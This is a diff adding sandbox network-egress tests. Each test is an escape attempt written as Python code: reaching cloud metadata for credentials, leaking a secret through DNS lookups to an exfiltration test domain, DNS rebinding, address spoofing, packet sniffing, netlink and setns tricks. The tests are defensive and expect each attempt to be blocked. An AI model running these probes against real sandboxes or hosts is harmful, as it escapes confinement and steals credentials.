@@ -597,3 +597,171 @@ address = ctypes.addressof(ctypes.c_char.from_buffer(code))
 print("reached", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
 """
 """Makes a system call of 32-bit x86, which has other numbers than the filter knows."""
+
+_DEFAULT = "default deny in the gate"
+_GUARD = "guarded ranges before what is listed"
+_OWN = "guard of the host's addresses"
+_RESOLVER = "a resolver that knows listed names only"
+_REBINDING = "a resolver that leaves out guarded addresses"
+_CABLES = "a cable of its own for each sandbox"
+
+NETWORK_POLICY = {
+    "allow": [
+        {"host": "203.0.113.0/24", "ports": [443]},
+        {"host": "128.0.0.0/1", "ports": [8080], "protocol": "any"},
+        {"host": "*.pypi.test", "ports": [443]},
+    ]
+}
+"""What the sandbox of the following attempts may reach: wide, as policies in need of a guard are."""
+
+NETWORK_ATTEMPTS = [
+    # Each is tried on a host of its own (`tests/integration/egress/world.py`), whose addresses
+    # `HOST` names, and which has remembered whoever came by.
+    Attempt(
+        "connects to an address that is not listed",
+        _DEFAULT,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['other'], 443))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "connects to a port that is not listed",
+        _DEFAULT,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['listed'], 80))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "speaks another protocol to what is listed",
+        _DEFAULT,
+        "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.settimeout(2); "
+        "client.connect((HOST['listed'], 443)); client.send(b'x'); reached = bool(client.recv(16))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "asks the cloud for credentials, by a network that has everything",
+        _GUARD,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['metadata'], 8080))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "connects to the host's neighbour, by a network that has everything",
+        _GUARD,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['neighbour'], 8080))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "connects to the host by its address in a network that is listed",
+        _OWN,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['host too'], 443))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "connects to the host by its own address",
+        _OWN,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['host'], 8080))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "connects to the host's end of the uplink",
+        _GUARD,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('198.19.4.1', 8080))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "connects to the host by the far end of a program's uplink",
+        _GUARD,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('198.19.0.1', 8080))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "connects to its gate",
+        _DEFAULT,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('198.18.0.1', 8080))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "asks another resolver",
+        _DEFAULT,
+        "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.settimeout(2); "
+        "client.connect((HOST['resolver'], 53)); client.send(b'x'); reached = bool(client.recv(16))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "resolves a name that is not listed",
+        _RESOLVER,
+        "reached = bool(socket.gethostbyname('other.test'))",
+        ("gaierror",),
+    ),
+    Attempt(
+        "tells a secret by asking for a name",
+        _RESOLVER,
+        "reached = bool(socket.gethostbyname('hunter2.exfiltration.test'))",
+        ("gaierror",),
+    ),
+    Attempt(
+        "has a listed name point it at the host's neighbour",
+        _REBINDING,
+        "reached = bool(socket.gethostbyname('private.pypi.test'))",
+        ("gaierror",),
+    ),
+    Attempt(
+        "has a listed name point it at the host",
+        _REBINDING,
+        "reached = bool(socket.gethostbyname('host.pypi.test'))",
+        ("gaierror",),
+    ),
+    Attempt(
+        "connects to the neighbour's address",
+        _CABLES,
+        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['sandbox'], 8080))",
+        ("EHOSTUNREACH",),
+    ),
+    Attempt(
+        "sends by the neighbour's address",
+        _CAPABILITIES,
+        "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "client.setsockopt(socket.IPPROTO_IP, 15, 1)\n"  # IP_FREEBIND
+        "client.bind((HOST['sandbox'], 0)); client.sendto(b'x', (HOST['listed'], 8080))\n"
+        "reached = True",
+        ("ENETUNREACH", "EINVAL"),
+    ),
+    Attempt(
+        "sees the neighbour's packets",
+        _SECCOMP,
+        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW); reached = True",
+        ("EAFNOSUPPORT",),
+    ),
+    Attempt(
+        "changes the rules",
+        _SECCOMP,
+        "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); reached = True",
+        ("ENOSYS", "EPERM"),
+    ),
+    Attempt(
+        "gives its cable an address",
+        _CAPABILITIES,
+        "index = socket.if_nametoindex('eth0')\n"
+        "route = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
+        "address = socket.inet_aton(HOST['sandbox'])\n"
+        "body = struct.pack('=BBBBI', 2, 32, 0, 0, index) + struct.pack('=HH', 8, 2) + address\n"
+        "route.send(struct.pack('=IHHII', 16 + len(body), 20, 0x405, 1, 0) + body)\n"
+        "error = -struct.unpack_from('=i', route.recv(4096), 16)[0]\n"
+        "if error:\n    raise OSError(error, os.strerror(error))\n"
+        "reached = True",
+        ("EPERM",),
+    ),
+    Attempt(
+        "joins the gate's network",
+        _SECCOMP,
+        "for number in range(1, 64):\n"
+        "    try:\n        call('setns', number, 0x40000000); reached = True\n"
+        "    except OSError as error:\n        last = error\n"
+        "raise last",
+        _DENIED,
+    ),
+    Attempt(
+        "goes by IPv6",
+        "no IPv6",
+        "reached = connect(socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 443))",
+        ("ENETUNREACH",),
+    ),
+]
